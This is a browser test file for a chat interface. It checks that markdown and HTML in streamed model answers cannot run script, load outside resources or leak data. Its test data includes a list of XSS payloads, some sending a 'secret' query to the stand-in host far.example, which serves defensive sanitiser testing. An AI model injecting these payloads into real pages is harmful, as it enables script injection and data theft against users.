"""Answers of a model as an attacker would have them: nothing runs, nothing loads, nothing leads out unasked."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from support.browser import Tab, needs_browser, opened
from support.server import Running, fake_pool, serving

pytestmark = [pytest.mark.slow, needs_browser]

FAR = "https://far.example"
HOSTILE = (
    '<img src=x onerror="window.hacked=1;alert(1)">',
    "<script>window.hacked=1</script><script src=/v1/models></script>",
    "<svg onload=window.hacked=1><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=window.hacked=1></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><object data=x></object><embed src=x>",
    "<style>body{display:none;background:url(https://far.example/s)}</style><link rel=stylesheet href=https://far.example/c>",
    "<form action=https://far.example/f><input name=key autofocus onfocus=window.hacked=1><button>x</button></form>",
    "<div style='position:fixed;inset:0;background:url(https://far.example/d)' onclick=window.hacked=1>x</div>",
    "<video src=https://far.example/v autoplay onloadstart=window.hacked=1></video><audio src=https://far.example/a>",
    "<base href=https://far.example/><meta http-equiv=refresh content='0;url=https://far.example/m'>",
    "[click](javascript:window.hacked=1) [data](data:text/html,<script>1</script>) [far](https://far.example/l)",
    '![leak](https://far.example/p.png?q=secret) ![own](/v1/models) ![x](x"onerror="window.hacked=1)',
    "<details open ontoggle=window.hacked=1><summary>x</summary></details><marquee onstart=window.hacked=1>x</marquee>",
    "`<img src=x onerror=window.hacked=1>`\n\n```html\n<script>window.hacked=1</script>\n```",
    "<a href='//far.example/r' target=_self onmouseover=window.hacked=1 id=app name=body>x</a><p id=main class=banner>",
    "<template><script>window.hacked=1</script></template>"
    "<noscript><p title='</noscript><img src onerror=window.hacked=1>'>",
)


def stream(text: str) -> str:
    """A streamed answer, a few characters an event: half of a tag is shown, too."""
    pieces = [{"content": text[at : at + 9], "reasoning_content": text[at : at + 9]} for at in range(0, len(text), 9)]
    deltas = [{"choices": [{"index": 0, "delta": one, "finish_reason": None}]} for one in pieces]
    end = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
    return "".join(f"data: {json.dumps(one)}\n\n" for one in [*deltas, end]) + "data: [DONE]\n\n"


@pytest.fixture(scope="module")
def running() -> Iterator[Running]:
    with serving(fake_pool(["llm"])) as running:
        yield running


@pytest.fixture(scope="module")
def whole(browser: Any, running: Running) -> Iterator[Tab]:
    with opened(browser, running.url) as tab:
        yield tab


@pytest.fixture
def tab(whole: Tab) -> Tab:
    """One window for all tests: what one of them left behind must not harm the next."""
    whole.errors.clear()
    return whole


def module(tab: Tab) -> str:
    """The address of the module that makes answers safe, once the page has loaded it."""
    names: list[str] = tab.page.evaluate("performance.getEntriesByType('resource').map((one) => one.name)")
    return next(one for one in names if one.endswith("/js/markdown.js"))


def answered(tab: Tab, text: str) -> Any:
    tab.page.unroute_all()
    tab.page.route(
        "**/v1/chat/completions", lambda route: route.fulfill(content_type="text/event-stream", body=stream(text))
    )
    tab.page.get_by_role("button", name="New conversation").first.click()
    tab.page.get_by_role("textbox", name="Ask something").fill(text)  # a question is hostile, too
    tab.page.get_by_role("button", name="Send").click()
    last = tab.page.get_by_role("article", name="Answer")
    last.and_(tab.page.locator("[aria-busy=false]")).wait_for()
    return last


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_and_nothing_loads(tab: Tab, text: str) -> None:
    last = answered(tab, text)
    for link in last.locator(".markdown a").all():
        link.hover()
    tab.page.mouse.click(640, 300)
    tab.page.evaluate("new Promise(requestAnimationFrame)")
    assert tab.page.evaluate("window.hacked") is None
    assert (tab.errors, tab.foreign, tab.dialogs) == ([], [], [])
    tags = last.locator(".markdown *").evaluate_all("all => all.map((one) => one.localName)")
    assert not {"img", "script", "style", "iframe", "form", "input", "svg", "object", "video", "base"} & set(tags)
    handlers = last.locator(".markdown *").evaluate_all(
        "all => all.flatMap((one) => [...one.attributes].map((two) => two.name)).filter((name) => "
        "/^on/.test(name) || ['style', 'id', 'name', 'class', 'src'].includes(name))"
    )
    assert handlers == []


def test_links_lead_out_by_a_click_alone_and_tell_nobody(tab: Tab) -> None:
    last = answered(tab, f"[far]({FAR}/l) [run](javascript:alert(1)) <mailto:a@far.example> ![picture]({FAR}/p.png)")
    links = last.locator(".markdown a[href]").evaluate_all("all => all.map((one) => [one.href, one.rel, one.target])")
    assert [one[0] for one in links] == [f"{FAR}/l", "mailto:a@far.example", f"{FAR}/p.png"]
    assert {(rel, target) for _, rel, target in links} == {("noopener noreferrer", "_blank")}
    assert tab.foreign == []


CLEAN = """([url, text]) => import(url).then(({ clean }) => {
  const place = document.createElement("div");
  place.append(clean(text));
  document.body.append(place);
  const all = [...place.querySelectorAll("*")].flatMap((one) => [one.localName, ...one.getAttributeNames()]);
  return new Promise((done) => setTimeout(() => (place.remove(), done(all)), 50));
})"""
READ = "([url, text]) => import(url).then((one) => one.spoken(text))"
TAGS = "a p br hr strong em del code pre blockquote ul ol li h2 h3 h4 h5 h6 table thead tbody tr th td sup sub kbd"
ATTRIBUTES = "href title align start target rel"


@pytest.mark.parametrize("text", HOSTILE)
def test_markup_that_reaches_the_sanitiser_does_not_pass_it(tab: Tab, text: str) -> None:
    """The renderer writes markup of an answer as text. The sanitiser behind it holds alone, too."""
    answered(tab, "words")
    assert set(tab.page.evaluate(CLEAN, [module(tab), text])) <= {*TAGS.split(" "), *ATTRIBUTES.split(" ")}
    assert tab.page.evaluate("window.hacked") is None
    assert (tab.foreign, tab.dialogs) == ([], [])
    assert [one for one in tab.errors if "Content Security Policy" not in one] == []  # the policy's word, too


def test_markup_is_shown_as_text(tab: Tab) -> None:
    last = answered(tab, "a <b>c</b> x<sub>2</sub><br>d\n\n<div>e</div>")
    assert last.locator(".markdown").inner_text() == "a <b>c</b> x2\nd\n\n<div>e</div>"
    assert last.locator("sub").count() == 1


def test_code_is_not_read_aloud(tab: Tab) -> None:
    answered(tab, "words")
    text = f"# one\n\ntwo *three*\n\n```\ncode\n```\n\n[four]({FAR}/)"
    said = tab.page.evaluate(READ, [module(tab), text])
    assert said.split() == ["one", "two", "three", "four"]
